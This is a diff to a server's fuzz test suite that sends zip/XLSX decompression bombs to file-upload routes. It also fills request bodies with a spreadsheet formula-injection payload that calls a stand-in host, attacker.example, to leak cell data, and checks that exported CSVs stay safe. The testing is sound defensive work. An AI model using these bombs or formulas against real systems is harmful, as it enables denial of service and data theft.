@@ -1,8 +1,11 @@
+import { parse } from 'csv-parse/sync';
 import { CSRF_HEADER, CSRF_HEADER_VALUE } from '../../server/src/schemas/csrfHeader.js';
 import type { App, RouteAccess } from '../../server/src/types.js';
 import { DEMO_APP_KEYS } from '../../server/src/db/seed/appKeys.js';
 import { APP_KEY_HEADER } from '../../server/src/schemas/usage.js';
 import { DEMO, buildTestApp, login, type Envelope } from './helpers.js';
+import { repeatedDeflated, xlsxOf } from '../support/zipCraft.mjs';
+import { demoBuildings } from './routes/location/poiFixtures.js';
 
 /**
  * Issue 10, no 5xx from any input: every /api route the server registers (read from the server, like the
@@ -24,8 +27,24 @@ interface Variant {
   query?: Record<string, string>;
   path?: (name: string) => string;
   body?: unknown;
-  raw?: { payload: string; contentType: string };
+  raw?: { payload: string | Buffer; contentType: string };
+  /** Issue 31: sent for the demo mall (buildingId in the query), so that the body itself is read. */
+  inMall?: boolean;
 }
+
+// Issue 31: the spreadsheet bombs every route that takes a file as its body is sent (made once: ~2.5 MB in all).
+const SHEET = 'xl/worksheets/sheet1.xml';
+const BOMBS: Array<[string, Buffer]> = [
+  ['an XLSX whose sheet inflates to 2 GiB', xlsxOf({ [SHEET]: repeatedDeflated('<worksheet><sheetData>', ' ', 2048, '</sheetData></worksheet>') })],
+  [
+    'an XLSX of 2.7 million rows',
+    xlsxOf({ [SHEET]: repeatedDeflated('<worksheet><sheetData>', '<row><c t="inlineStr"><is><t>x</t></is></c></row>', 128, '') }),
+  ],
+  ['an XLSX nested a million levels deep', xlsxOf({ [SHEET]: repeatedDeflated('<worksheet><sheetData>', '<a>', 8, '') })],
+  ['a zip of one file inflating to 300 MB', xlsxOf({ 'unit.geojson': repeatedDeflated('', '\u0000', 300, '') })],
+];
+/** Issue 31 §2: text a spreadsheet would run, in every body text; no CSV the server writes may carry it live. */
+const FORMULA = '=HYPERLINK("http://attacker.example/?x="&A1,"x")';
 
 const HUGE_INT = '100000000000000000000';
 const typesOf = (s: JsonSchema | undefined): string[] => (s ? [s.type ?? []].flat().concat((s.anyOf ?? []).flatMap(typesOf)) : []);
@@ -73,12 +92,25 @@ function variants(op: Operation, method: string): Variant[] {
       { name: 'integers past the range in the body', invalid: Object.keys(bodyInts).length > 0, body: bodyInts },
       { name: 'huge strings in the body', invalid: false, body: fill(bodySchema, ofType('string', 'x'.repeat(100_000))) },
       { name: 'extra fields in the body', invalid: false, body: { extra: 1, nested: { deep: [[[[[]]]]] } } },
+      { name: 'issue 31: formula text in every body text', invalid: false, body: fill(bodySchema, ofType('string', FORMULA)) },
     );
   }
+  const fileTypes = Object.keys(op.requestBody?.content ?? {}).filter((t) => t !== 'application/json' && !t.startsWith('multipart/'));
+  const inMall = query.some((p) => p.name === 'buildingId');
+  for (const [name, payload] of fileTypes.length ? BOMBS : [])
+    out.push({ name: `issue 31: ${name}`, invalid: inMall, inMall, raw: { payload, contentType: fileTypes[0]! } });
   if (op.requestBody?.content['multipart/form-data']) {
     // Issue 13: a route that takes a file gets broken multipart bodies too.
     const part = (head: string) => `--fz\r\nContent-Disposition: form-data; ${head}\r\n\r\n`;
     out.push(
+      ...BOMBS.map(([name, bomb]): Variant => ({
+        name: `issue 31: ${name} as the file`,
+        invalid: false,
+        raw: {
+          payload: Buffer.concat([Buffer.from(part('name="file"; filename="a.xlsx"')), bomb, Buffer.from('\r\n--fz--\r\n')]),
+          contentType: 'multipart/form-data; boundary=fz',
+        },
+      })),
       { name: 'multipart without a boundary', invalid: true, raw: { payload: 'x', contentType: 'multipart/form-data' } },
       {
         name: 'a truncated multipart body',
@@ -118,10 +150,12 @@ console.log(`fuzz: ${ROUTES.length} routes, ${CASES.length} malformed requests`)
 describe(`issue 10 fuzz: ${ROUTES.length} routes, ${CASES.length} malformed requests, no 5xx`, () => {
   let app: App;
   let cookie: string;
+  let mall: number;
   beforeAll(async () => {
     app = await buildTestApp({ mail: { outboxDir: `.tmp/fuzz-outbox-${process.pid}` } });
     await app.ready();
     cookie = await login(app, DEMO.platform);
+    mall = (await demoBuildings(app.db)).mall;
   });
   afterAll(async () => app.close());
 
@@ -131,7 +165,7 @@ describe(`issue 10 fuzz: ${ROUTES.length} routes, ${CASES.length} malformed requ
 
   it.each(CASES)('%s', async (_name, route, variant) => {
     const path = route.url.replace(/:(\w+)/g, (_, name: string) => variant.path?.(name) ?? '1');
-    const search = new URLSearchParams(variant.query ?? {}).toString();
+    const search = new URLSearchParams({ ...(variant.inMall ? { buildingId: String(mall) } : {}), ...variant.query }).toString();
     // Issue 14: an app's call carries its key instead of the admin's cookie, so that its input is judged.
     const base = { cookie, [CSRF_HEADER]: CSRF_HEADER_VALUE, ...(route.auth === 'appKey' ? { [APP_KEY_HEADER]: DEMO_APP_KEYS['demo-malls'] } : {}) };
     const res = await app.inject({
@@ -153,6 +187,19 @@ describe(`issue 10 fuzz: ${ROUTES.length} routes, ${CASES.length} malformed requ
     if (envelope.code === 10005) {
       expect(envelope.errors?.length, seen).toBeGreaterThan(0);
       for (const error of envelope.errors ?? []) expect(error.field, seen).toMatch(/\S/);
+    }
+  });
+
+  it('issue 31 §2: after the fuzz, no CSV the server writes holds a live formula cell', async () => {
+    const csvRoutes = ROUTES.filter((r) => r.method === 'GET' && JSON.stringify(operationOf(r)).includes('text/csv'));
+    expect(csvRoutes.length).toBeGreaterThan(0);
+    // The fuzz ends with the logout routes: sign in again.
+    const session = await login(app, DEMO.platform);
+    for (const route of csvRoutes) {
+      const res = await app.inject({ method: 'GET', url: `${route.url}?buildingId=${mall}`, headers: { cookie: session, [CSRF_HEADER]: CSRF_HEADER_VALUE } });
+      expect(res.statusCode, keyOf(route)).toBe(200);
+      const cells = parse(res.body, { bom: true, relax_column_count: true }) as string[][];
+      for (const cell of cells.flat()) expect(cell, keyOf(route)).not.toMatch(/^[=+@\t\r\uFF1D\uFF0B\uFF20]|^[-\uFF0D](?!\d+(\.\d+)?$)/);
     }
   });
 });
